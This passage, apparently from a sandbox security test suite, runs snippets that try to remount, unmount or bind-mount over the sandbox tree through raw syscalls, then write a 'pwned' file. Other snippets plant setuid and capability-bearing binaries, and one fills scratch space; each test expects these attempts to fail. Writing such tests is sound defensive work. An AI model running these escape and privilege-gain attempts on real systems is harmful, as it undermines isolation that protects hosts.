      expect(ctl.every((x) => x.startsWith('ok'))).toBe(true);
    });

    it.skipIf(skip || !caps.python)('FS-24: the sandbox cannot remount, unmount or mount over its own tree', async () => {
      git(scene.ws, 'init', '-q');
      const gitBefore = snapshot(`${scene.ws}/.git`);
      const outBefore = snapshot(scene.out);
      fs.mkdirSync(`${scene.ws}/mnt`);
      const code =
        'import ctypes,os,sys,struct\n' +
        'libc=ctypes.CDLL(None,use_errno=True)\n' +
        'ws,out=sys.argv[1],sys.argv[2]\n' +
        'def t(r):\n  return "ok" if r==0 else str(ctypes.get_errno())\n' +
        'MS_REMOUNT,MS_BIND,MS_RDONLY=32,4096,1\n' +
        'res=[t(libc.mount(None,b"/",None,MS_REMOUNT|MS_BIND,None)),\n' +
        '     t(libc.mount(None,out.encode(),None,MS_REMOUNT|MS_BIND,None)),\n' +
        '     t(libc.umount2((ws+"/.git/hooks").encode(),2)),\n' +
        '     t(libc.mount(b"tmpfs",(ws+"/mnt").encode(),b"tmpfs",0,None)),\n' +
        '     t(libc.mount(out.encode(),(ws+"/mnt").encode(),None,MS_BIND,None)),\n' +
        '     t(libc.unshare(0x10000000|0x00020000)),\n' +
        '     t(libc.syscall(442,-100,b"/",0x8000,ctypes.c_char_p(struct.pack("QQQQ",0,1,0,0)),32)),\n' +
        '     t(libc.syscall(155,ws.encode(),(ws+"/mnt").encode())),\n' +
        '     t(libc.syscall(433,-100,b"/",0)),\n' +
        '     t(libc.syscall(429,-100,(ws+"/mnt").encode(),-100,out.encode(),0)),\n' +
        '     t(libc.syscall(161,(ws+"/mnt").encode()))]\n' +
        'print(" ".join(res))\n' +
        'open(out+"/ro.txt","w").write("pwned")\n';
      const r = await py(code, [scene.ws, scene.out], { cwd: scene.ws, policy });
      for (const e of r.stdout.trim().split(' ')) expect(['1', '13', '38'], r.stdout + r.stderr).toContain(e); // EPERM/EACCES/ENOSYS
      expect(r.code).not.toBe(0); // the final write failed
      expectUnchanged(gitBefore, snapshot(`${scene.ws}/.git`));
      expectUnchanged(outBefore, snapshot(scene.out));
      // Control: the same mount calls work in a user namespace of our own, outside the sandbox;
      // where this host cannot make one (a default container), there is no such control.
      if (!caps.userns) {
        console.warn('[FS-24] SKIPPING the control: this host cannot make a user namespace of its own');
        return;
      }
      const ctl = await run(
        'unshare',
        ['-rm', PYTHON, '-c', 'import ctypes,sys\nlibc=ctypes.CDLL(None,use_errno=True)\nprint(libc.mount(b"tmpfs",sys.argv[1].encode(),b"tmpfs",0,None))', `${scene.ws}/mnt`],
        { env: BASE_ENV, policy: null },
      );
      expect(ctl.stdout.trim(), ctl.stderr).toBe('0');
    });

    // A setuid (as root: setuid-root) binary planted inside would be honoured outside later.
    it.skipIf(skip)('FS-25: programs planted in the workspace run inside but cannot gain privileges', async () => {
      const script = `${scene.ws}/planted.sh`;
      const r = await sh(
        `printf '#!/bin/sh\\necho planted-ran\\n' > ${script} && chmod 755 ${script} && ${script}; cp /bin/true ${scene.ws}/t && chmod 4755 ${scene.ws}/t; echo setuid=$?`,
        { cwd: scene.ws, policy },
      );
      expect(r.stdout).toContain('planted-ran'); // ordinary work: build and run in the workspace
      // A setuid bit planted by the sandbox would be honoured outside it later.
      const mode = fs.existsSync(`${scene.ws}/t`) ? fs.statSync(`${scene.ws}/t`).mode : 0;
      expect(mode & 0o6000, 'a setuid/setgid bit set inside the sandbox reached the host').toBe(0);
      // Every other way to get a set-id bit or a file capability onto a new file.
      if (caps.python) {
        const code =
          'import ctypes,os\n' +
          'libc=ctypes.CDLL(None,use_errno=True)\n' +
          'def t(f):\n  try:\n    r=f()\n    return "ok" if (r is None or r>=0) else str(ctypes.get_errno())\n  except OSError as e:\n    return str(e.errno)\n' +
          'open("base","w").close()\n' +
          'print(" ".join([t(lambda: os.open("o1", os.O_CREAT|os.O_WRONLY, 0o4755)), t(lambda: libc.creat(b"o2", 0o6755)),' +
          ' t(lambda: os.mknod("o3", 0o104755)), t(lambda: libc.syscall(452, -100, b"base", 0o4755, 0)),' +
          ' t(lambda: os.chmod("base", 0o2755)), t(lambda: os.fchmod(os.open("base", os.O_RDONLY), 0o4755)),' +
          ' t(lambda: os.setxattr("base", "security.capability", bytes([1,0,0,2]) + bytes(16)))]))\n';
        const x = await py(code, [], { cwd: scene.ws, policy });
        expect(x.stdout.trim().split(' ').filter((e) => e === 'ok'), x.stdout + x.stderr).toEqual([]);
        for (const f of fs.readdirSync(scene.ws)) {
          expect(fs.lstatSync(path.join(scene.ws, f)).mode & 0o6000, f).toBe(0);
        }
        // Control: unsandboxed, the same set-id calls succeed on a scratch copy.
        const ctlDir = path.join(scene.root, 'ctl');
        fs.mkdirSync(ctlDir);
        const c = await py(code, [], { cwd: ctlDir, policy: null });
        const ctl = c.stdout.trim().split(' ').slice(0, 6);
        // fchmodat2 (452) is ENOSYS for every process under a container runtime's profile that
        // predates it (this test process's own filter): no control for that one call there.
        if (ctl[3] === '38' && /^Seccomp_filters:\s+[1-9]/m.test(fs.readFileSync('/proc/self/status', 'utf8'))) {
          console.warn('[threats-fs] FS-25: SKIPPING the fchmodat2 control: this process\'s own seccomp filter answers ENOSYS for it');
          ctl[3] = 'ok';
        }
        expect(ctl, c.stderr).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
      }
    });

    it.skipIf(skip)('FS-27: filling scratch space stays inside the run and is discarded', async () => {
      const r = await sh('t=${TMPDIR:-/tmp}; dd if=/dev/zero of="$t/fill" bs=1M count=32 2>/dev/null; echo rc=$?; du -k "$t/fill" | cut -f1; echo "$t"', {
        cwd: scene.ws,
        policy,
      });
      const [rc, kb, tmpdir] = r.stdout.trim().split('\n');
      expect(rc).toBe('rc=0');
      expect(Number(kb)).toBeGreaterThanOrEqual(32 * 1024);
      expect(fs.existsSync(`${tmpdir!}/fill`), 'the scratch file outlived the run on the host').toBe(false);
      // A full writable root reports ENOSPC/EDQUOT inside rather than hurting the host: write to
      // /dev/full as the stand-in for a full disk.
      const full = await sh('echo x > /dev/full; echo rc=$?', { cwd: scene.ws, policy });
      expect(full.stdout.trim()).not.toBe('rc=0');
      // Control: the same dd into the workspace lands on the host.
      const ws = await sh('dd if=/dev/zero of=fill bs=1M count=2 2>/dev/null; echo rc=$?', { cwd: scene.ws, policy });
      expect(ws.stdout.trim()).toBe('rc=0');
      expect(fs.statSync(`${scene.ws}/fill`).size).toBe(2 << 20);
    });
  });
});
